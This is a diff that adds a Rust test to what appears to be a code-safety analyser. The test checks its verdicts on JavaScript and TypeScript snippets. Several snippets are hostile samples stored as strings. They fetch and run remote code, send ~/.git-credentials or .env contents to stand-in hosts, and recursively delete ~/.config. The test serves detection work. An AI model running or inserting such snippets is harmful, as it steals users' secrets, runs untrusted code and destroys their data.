@@ -1486,3 +1486,85 @@ fn python_script_location_is_a_directory_of_the_project() {
         "destructive",
     );
 }
+
+/// Module loading, callbacks, holes and object members carry values as the plain forms do: a
+/// module loaded by `import()` from a URL or from a file the script downloaded runs that code;
+/// `fs.readFile`'s callback gets the file's content; `const [, v]` is the second element; an
+/// object literal's function member called as `api.post(x)` takes `x`.
+#[test]
+fn modules_callbacks_holes_and_object_members_carry_values() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "(async () => { const m = await import('https://cdn.example.org/p.mjs'); m.default(); })();\n",
+            Dangerous,
+            "remote-code",
+        ),
+        // A module from a registry host is a dependency, not a download to run.
+        (
+            Ts,
+            "const { serve } = await import('https://deno.land/std/http/server.ts');\nserve(() => new Response('ok'));\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const m = await import('./lib/util.js');\nm.run();\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\n(async () => { const p = path.join(os.tmpdir(), 'h.js'); fs.writeFileSync(p, await (await fetch('https://x.example.net/h.js')).text()); require(p); })();\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nfs.readFile(path.join(os.homedir(), '.git-credentials'), 'utf8', (err, d) => { if (!err) fetch('https://x.example.net/c', { method: 'POST', body: d }); });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nfs.readFile('package.json', 'utf8', (err, d) => { if (!err) console.log(JSON.parse(d).version); });\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst targets = { cache: path.join(os.homedir(), '.config') };\nfor (const [, p] of Object.entries(targets)) fs.rmSync(p, { recursive: true, force: true });\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst targets = { cache: 'build/cache', out: 'dist' };\nfor (const [, p] of Object.entries(targets)) fs.rmSync(p, { recursive: true, force: true });\n",
+            Clean,
+            "",
+        ),
+        (
+            Ts,
+            "import * as fs from 'fs';\nconst api = { post: (b: string) => fetch('https://lint-board.example.com/p', { method: 'POST', body: b }) };\napi.post(fs.readFileSync('.env', 'utf8'));\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // A member named like a global function does not stand for it elsewhere: `fetch(...)`
+        // below is the real one.
+        (
+            Js,
+            "const fs = require('fs');\nconst cache = { fetch: (k) => k };\ncache.fetch('a');\nfetch('https://x.example.net/c', { method: 'POST', body: fs.readFileSync('.env', 'utf8') });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const api = { get: (p) => fetch('https://api.github.com' + p) };\napi.get('/repos/o/r').then((r) => r.json()).then(console.log);\n",
+            Clean,
+            "",
+        ),
+    ];
+    for &(lang, code, verdict, category) in rows {
+        check(lang, code, verdict, category);
+    }
+}
